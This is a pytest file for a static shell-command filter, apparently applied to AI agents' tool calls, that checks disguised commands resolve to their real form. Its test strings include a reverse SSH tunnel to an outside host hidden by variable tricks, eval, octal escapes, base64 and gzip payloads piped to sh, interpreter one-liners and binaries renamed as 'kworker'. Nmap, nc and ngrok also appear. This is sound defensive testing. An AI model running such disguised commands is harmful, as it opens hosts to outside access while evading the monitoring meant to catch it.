"""The event model resolves the disguises of the evasion transforms (issue 12), statically.

Every command here is text handed to the parsers; nothing is run.
"""
from __future__ import annotations

import pytest

from safefilter.events import Connect, Exec, Origin, events_of_shell
from safefilter.events.flow import resolve_flow
from safefilter.events.shellstrings import ansi_c, param_op, static_output
from safefilter.events.argv import Word

ORIGIN = Origin(message_index=1, tool_call_id="c1", field="arguments.command")


def _execs(text: str) -> list[tuple[str, ...]]:
    return [e.argv for e in events_of_shell(text, origin=ORIGIN).events if isinstance(e, Exec)]


def _names(text: str) -> list[str]:
    return [e.name for e in events_of_shell(text, origin=ORIGIN).events if isinstance(e, Exec)]


@pytest.mark.parametrize("value,op,out", [
    ("SSH", ",,", "ssh"), ("ssh", "^^", "SSH"), ("hello", "^", "Hello"), ("Hello", ",", "hello"),
    ("s_s_h", "//_/", "ssh"), ("aXbXc", "/X/-", "a-bXc"), ("abc", "/#a/z", "zbc"), ("abc", "/%c/z", "abz"),
    ("ssh_", "%_", "ssh"), ("a.b.c", "%.*", "a.b"), ("a.b.c", "%%.*", "a"),
    ("a.b.c", "#*.", "b.c"), ("a.b.c", "##*.", "c"), ("x/y/z", "##*/", "z"),
    ("___ssh", ":3", "ssh"), ("abcdef", ":1:2", "bc"), ("abcdef", ": -2", "ef"), ("abcdef", ":1:-1", "bcde"),
    ("abc", "/[ab]/x", "xbc"), ("abc", "//[!a]/x", "axx"),
])
def test_parameter_operators(value: str, op: str, out: str) -> None:
    assert param_op(value, op) == out


@pytest.mark.parametrize("op", ["/a/&", "/$x/", "/'a'/b", ",,[a-z]", "@Q"])
def test_parameter_operators_not_read_stay_unknown(op: str) -> None:
    assert param_op("abc", op) is None


@pytest.mark.parametrize("text", [
    "k2=SSH; ${k2,,} -R 9000:localhost:22 u@203.0.113.7",
    "b=s_s_h; ${b//_/} -R 9000:localhost:22 u@203.0.113.7",
    "p=___ssh; ${p:3} -R 9000:localhost:22 u@203.0.113.7",
    "p=ssh_; ${p%_} -R 9000:localhost:22 u@203.0.113.7",
    "n=ssh; v=n; ${!v} -R 9000:localhost:22 u@203.0.113.7",
    "ssh$IFS$9-R$IFS$99000:localhost:22$IFS$9u@203.0.113.7",
    "sh -c 'exec \"$0\" \"$@\"' ssh -R 9000:localhost:22 u@203.0.113.7",
    "bash -c 'exec -a \"$0\" \"$@\"' kworker ssh -R 9000:localhost:22 u@203.0.113.7",
    "f() { \"$@\"; }; f ssh -R 9000:localhost:22 u@203.0.113.7",
    "$(which ssh) -R 9000:localhost:22 u@203.0.113.7",
    "\"$(command -v ssh)\" -R 9000:localhost:22 u@203.0.113.7",
    "source <(printf '%s\\n' 'ssh -R 9000:localhost:22 u@203.0.113.7')",
    ". <(echo 'ssh -R 9000:localhost:22 u@203.0.113.7')",
    "bash <(echo 'ssh -R 9000:localhost:22 u@203.0.113.7')",
    "v='ssh -R 9000:localhost:22 u@203.0.113.7' bash -c 'eval \"${v}\"'",
    "export v='ssh -R 9000:localhost:22 u@203.0.113.7'; bash -c 'eval \"$v\"'",
    "v='ssh -R 9000:localhost:22 u@203.0.113.7'; eval 'eval \"$v\"'",
    "echo -e '\\0163\\0163\\0150 -R 9000:localhost:22 u@203.0.113.7' | sh",
    "printf '%b' '\\163\\163\\150 -R 9000:localhost:22 u@203.0.113.7' | sh",
    "echo '{ssh,-R,9000:localhost:22,u@203.0.113.7}' | bash",
    "tmux new-session -d -s x bash -c 'ssh -R 9000:localhost:22 u@203.0.113.7'",
    "ruby -e \"exec('bash','-c','{ssh,-R,9000:localhost:22,u@203.0.113.7}')\"",
    "ruby -e \"Process.wait(Process.spawn('bash','-c','ssh -R 9000:localhost:22 u@203.0.113.7'))\"",
    "perl -we 'system(\"ssh -R 9000:localhost:22 u@203.0.113.7\")'",
    "node -e \"require('child_process').execSync('ssh -R 9000:localhost:22 u@203.0.113.7')\"",
    "awk 'BEGIN{exit system(\"ssh -R 9000:localhost:22 u@203.0.113.7\")}' /dev/null",
    "awk -F: 'BEGIN{system(\"echo c3NoIC1SIDkwMDA6bG9jYWxob3N0OjIyIHVAMjAzLjAuMTEzLjc= | base64 -d | sh\")}'",
    "printf '%s' 'y=___ssh; ${y:3} -R 9000:localhost:22 u@203.0.113.7' | xargs -0 bash -c",
    "bash -c 'exec -a \"$0\" \"$@\"' kworker bash -c 'ssh -R 9000:localhost:22 u@203.0.113.7'",
    "echo H4sIAAAAAAACAysuzlDQDVKwNDAwsMrJT07MycgvLrEyMlIodTAyMNYz0DM0NNYzBwBaiy7DJgAAAA== | base64 -d | gunzip | sh",
])
def test_disguised_ssh_resolves_to_the_forward(text: str) -> None:
    assert ("ssh", "-R", "9000:localhost:22", "u@203.0.113.7") in [("ssh",) + a[1:] for a in _execs(text)
                                                                   if a[0].rpartition("/")[2] == "ssh"]


def test_positional_parameters_at_top_level_are_empty_and_unknown_in_run_files() -> None:
    assert _execs("echo a$1b $# \"$@\"") == [("echo", "ab", "0")]
    script = Origin(0, None, "<script>", 0)
    ev = [e for e in events_of_shell("nc $1 4444", origin=script).events if isinstance(e, Exec)][0]
    assert ev.argv == ("nc", "$1", "4444") and ev.reasons


def test_child_shell_sees_exported_not_plain_variables() -> None:
    assert _execs("a=nmap; bash -c '$a -sS h'")[-1][0] == "$a"
    assert _execs("export a=nmap; bash -c '$a -sS h'")[-1] == ("nmap", "-sS", "h")


def test_lookup_commands_print_a_bin_path() -> None:
    words = [Word(w, 0, 0) for w in ("type", "-P", "ngrok")]
    assert static_output(words, None) == "/usr/bin/ngrok\n"
    assert static_output([Word("type", 0, 0), Word("ngrok", 0, 0)], None) is None  # "ngrok is ..."


def test_echo_and_printf_octal_escapes_follow_bash() -> None:
    assert ansi_c(r"\101|\0101|\01012", mode="echo") == "\\101|A|A2"
    assert ansi_c(r"\101|\0101", mode="b") == "A|A"
    assert ansi_c(r"\101\0101") == "A\x081"
    assert ansi_c(r"ab\cde", mode="echo") == "ab"


@pytest.mark.parametrize("text", [
    'cp "$(type -P ssh)" /var/tmp/.x; /var/tmp/.x -R 9000:localhost:22 u@203.0.113.7',
    'ln -sf "$(type -P ssh)" /tmp/.fontd; /tmp/.fontd -R 9000:localhost:22 u@203.0.113.7',
    "cat $(which ssh) > ./.s; chmod +x ./.s; ./.s -R 9000:localhost:22 u@203.0.113.7",
])
def test_renamed_copy_of_a_looked_up_binary_keeps_its_identity(text: str) -> None:
    events = events_of_shell(text, origin=ORIGIN).events
    flow = resolve_flow(events)
    derived = [e for e in flow.events if isinstance(e, Connect)]
    assert [(c.host, c.tool) for c in derived] == [("203.0.113.7", "ssh")]


def test_scanner_short_options_take_no_value_by_their_last_letter() -> None:
    events = events_of_shell("nmap -sS -p 1-1024 10.0.0.0/24", origin=ORIGIN).events
    assert [c.host for c in events if isinstance(c, Connect)] == ["10.0.0.0/24"]


def test_cat_of_several_files_is_no_copy() -> None:
    text = "cat $(which ssh) notes > ./.s; ./.s -R 9000:localhost:22 u@203.0.113.7"
    flow = resolve_flow(events_of_shell(text, origin=ORIGIN).events)
    assert not [e for e in flow.events if isinstance(e, Connect)]


def test_inline_code_without_a_literal_process_call_runs_nothing() -> None:
    assert _names("perl -e 'print join(\",\", @ARGV)' a b") == ["perl"]
    assert _names("ruby -e 'system(cmd)'") == ["ruby"]
    assert _names("awk -F: '{system(\"nc \" $1)}' hosts") == ["awk"]  # not a literal command
    assert _names("awk '{print \"system(x)\"}' f") == ["awk"]


def test_printed_text_stays_data() -> None:
    """Resolving more does not turn text into action: echoed or quoted commands run nothing."""
    for text in ("k=SSH; echo \"${k,,} -R 9000:localhost:22 u@h\"",
                 "printf '%s\\n' \"$(which ngrok) tcp 22\" > notes.md",
                 "echo 'source <(echo ssh -R 1:h:2 u@h)'"):
        assert set(_names(text)) <= {"echo", "printf", "which"}, text
